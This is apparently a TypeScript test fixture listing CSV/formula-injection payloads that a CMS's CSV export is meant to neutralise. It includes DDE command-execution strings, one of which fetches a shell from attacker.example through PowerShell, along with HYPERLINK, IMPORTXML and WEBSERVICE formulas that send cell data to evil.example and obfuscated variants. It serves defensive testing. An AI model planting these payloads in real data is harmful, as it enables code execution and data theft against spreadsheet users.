/**
 * Cell values an attacker would put in a name or a title to reach an admin's spreadsheet as a
 * formula (OWASP "CSV Injection"; the payload families collected by PayloadsAllTheThings): the
 * four signs = + - @ and their fullwidth forms, DDE command execution, HYPERLINK and IMPORTXML
 * exfiltration, the same behind a tab, CR, LF, spaces or invisible characters, and parse
 * breakers (quotes, `;`, `,`) that try to start a new cell. Every one must leave
 * cms/domain/csv.ts as text.
 */
export const formulaPayloads: string[] = [
  // The four signs.
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=SUM(A1:A9)',
  '-1-1',
  '--1-1',
  '+41 12 34 56 78',
  // Command execution through DDE.
  "=cmd|' /C calc'!A0",
  "=cmd|'/C calc'!'A1'",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "+hack(cmd|'/c calc.exe'!A",
  "-2+3+cmd|'/C calc'!A1",
  "-1-cmd|'/C calc'!'A1'",
  "=rundll32|'URL.dll,OpenURL calc'!A",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=EXEC("calc.exe")',
  'DDE ("cmd";"/C calc";"!A0")A0',
  "=    C    m D    |   '/  c  c al c . e x e'   !   A",
  // Exfiltration and phishing links.
  '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
  '=HYPERLINK("https://evil.example","Se din opgørelse")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMAGE("https://evil.example/pixel.png")',
  // Hidden behind whitespace, line breaks and invisible characters.
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   =HYPERLINK("https://evil.example")',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\uFEFF=1+1',
  '\t\t+1+1',
  ' @SUM(1+1)',
  '\n-2+3',
  // Fullwidth signs (Apple Numbers and LibreOffice fold them).
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1+1)',
  // Parse breakers: quotes and separators trying to open a new cell.
  "parsebreaker\" ;,=cmd|'/C notepad'!'A1'",
  '";=1+1',
  'Jonas;=1+1',
  'Jonas\r\n=1+1;=2+2',
  '"=1+1"',
  // The escapes written as text (harmless, kept as they are).
  '0x3D1+1',
  "0x09=cmd|'/C calc'!A0",
  '%3D1+1',
];
